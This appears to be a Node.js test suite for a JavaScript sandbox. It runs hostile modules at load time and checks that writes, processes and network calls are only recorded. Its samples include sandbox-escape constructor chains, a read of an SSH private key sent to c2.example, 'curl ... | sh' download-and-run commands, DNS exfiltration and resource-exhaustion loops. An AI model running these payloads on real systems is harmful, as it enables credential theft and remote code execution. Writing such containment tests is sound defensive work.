// The escape suite again, with top-level execution: hostile modules run as `require` and install
// scripts would run them (external/sandbox/module-run). Each must end with a defined outcome, and
// nothing may happen on the real machine: no canary file, no child process, no socket, no real
// secret read.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const os = require('node:os');
const { loadSandbox } = require('../../../server/dist/external/sandbox/runner.js');
const { runModuleTopLevel } = require('../../../server/dist/external/sandbox/module-run.js');
const { sandboxHealth } = require('../../../server/dist/external/sandbox/self-test.js');
const { watchHost } = require('../../support/host-watch.js');

const host = watchHost('orbit-load-canary-');
const { canary, calls: hostCalls } = host;
// A time limit a busy machine cannot hit before a hostile module reaches what it attempts (the
// instruction and memory limits stop the runaway ones); the wall-clock bounds below only tell a
// run that stopped from one that waited out a real timer of 90 s or 12 h.
const LIMITS = { timeMs: 3_000, instructions: 20_000_000, memoryBytes: 16 * 1024 * 1024 };

async function hostileModule(program, limits = LIMITS) {
  const started = Date.now();
  const trace = await runModuleTopLevel('/pkg/index.js', program.replaceAll('CANARY', JSON.stringify(canary)), { limits });
  assert.ok(['return', 'throw', 'limit'].includes(trace.outcome.kind), `undefined outcome ${JSON.stringify(trace.outcome)}`);
  assert.equal(fs.existsSync(canary), false, 'the canary file was written');
  assert.deepEqual(hostCalls, [], 'a host capability was used');
  assert.ok(Date.now() - started < 60_000, 'the run did not stop');
  return trace;
}

test.before(() => loadSandbox());
test.after(host.dispose);

test('constructor chains at load reach only the sandbox and its stubs', async () => {
  const t = await hostileModule(`
    const p = this.constructor.constructor('return process')();
    const g = (() => {}).constructor('return globalThis')();
    g.require('fs').writeFileSync(CANARY, 'pwned');
    p.mainModule && p.mainModule.require('child_process').execSync('touch ' + CANARY);`);
  assert.ok(t.effects.some((e) => e.kind === 'fs-write' && e.target === canary), 'the write is recorded, not performed');
});

test('a module that replaces require and os before the canaries are read still gets fakes', async () => {
  const t = await hostileModule(`
    const os = require('os');
    os.userInfo = null;
    const real = require;
    require = () => ({ execSync: () => 'x' });
    const key = real('fs').readFileSync('/root/.ssh/id_rsa', 'utf8');
    real('https').request({ hostname: 'c2.example' }).end(key + os.hostname());`);
  const sent = t.effects.find((e) => e.kind === 'network' && JSON.stringify(e.args).includes('orbit-file:/root/.ssh/id_rsa'));
  assert.ok(sent, 'the key sent is the canary, not a real file');
});

test('timers set at load fire on the virtual clock, not the real one', async () => {
  const started = Date.now();
  const t = await hostileModule(`
    setTimeout(() => require('child_process').exec('curl http://c2.example/x | sh'), 90000);
    setInterval(() => require('dns').lookup(require('os').hostname() + '.c2.example', () => {}), 12 * 3600 * 1000);`);
  assert.ok(Date.now() - started < 60_000, 'the fake clock did not wait the real 90 s');
  assert.ok(t.effects.some((e) => e.kind === 'process' && e.target.startsWith('curl')), 'the 90 s timer ran');
  assert.ok(t.effects.filter((e) => e.target.startsWith('dns:')).length >= 2, 'the interval ran more than once');
});

test('interval and promise storms at load stop', async () => {
  const t = await hostileModule(`setInterval(() => fetch('http://x.example/' + Math.random()), 1);`);
  assert.ok(t.effects.filter((e) => e.kind === 'network').length <= 200);
  // A microtask storm is stopped by the clock; with a long limit it can also end on its own when
  // the engine runs out of room for jobs, which reads as a return. The short limit asks for the clock.
  const p = await hostileModule(`const p = () => Promise.resolve().then(p); p();`, { ...LIMITS, timeMs: 400 });
  assert.equal(p.outcome.kind, 'limit');
});

test('a promise storm at load under a long time limit ends as a limit, not as a return', async () => {
  const p = await hostileModule(`const p = () => Promise.resolve().then(p); p();`, { ...LIMITS, timeMs: 600_000, instructions: 1e12 });
  assert.deepEqual(p.outcome, { kind: 'limit', limit: 'instructions' });
});

test('infinite loops and huge strings at load hit a limit', async () => {
  assert.equal((await hostileModule(`for (;;) { try { for (;;) {} } catch (e) {} }`)).outcome.kind, 'limit');
  assert.equal((await hostileModule(`let s = 'x'; for (;;) s += s;`)).outcome.kind, 'limit');
  assert.equal((await hostileModule(`(function r() { return r() + 1; })();`)).outcome.kind, 'limit');
});

test('poisoned prototypes at load do not hide effects', async () => {
  const t = await hostileModule(`
    Array.prototype.push = function () { return 0; };
    JSON.stringify = () => '{}';
    Function.prototype.apply = function () { return undefined; };
    require('child_process').exec('curl http://evil.example | sh');`);
  assert.ok(t.effects.some((e) => e.kind === 'process' && e.target.startsWith('curl')));
});

test('exporting a getter or a function does not run it: only the top level runs', async () => {
  const t = await hostileModule(`
    module.exports = function () { require('fs').writeFileSync(CANARY, 'called'); };
    Object.defineProperty(exports, 'x', { get() { require('fs').writeFileSync(CANARY, 'got'); return 1; } });`);
  assert.equal(t.effects.filter((e) => e.kind === 'fs-write').length, 0);
  assert.equal(t.outcome.kind, 'return');
});

test('WebAssembly is not available at load either', async () => {
  const t = await hostileModule(`new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`);
  assert.equal(t.outcome.kind, 'throw');
});

test('ES modules and TypeScript run at load after transpiling', async () => {
  const t = await hostileModule(`import { execSync } from 'child_process';\nconst cmd: string = 'curl http://c2.example | sh';\nexecSync(cmd);\nexport default 1;`);
  assert.ok(t.effects.some((e) => e.kind === 'process' && e.target.startsWith('curl')));
});

test('the sandbox still answers after the load escape suite', async () => {
  const h = await sandboxHealth();
  assert.equal(h.ok, true, h.detail);
});
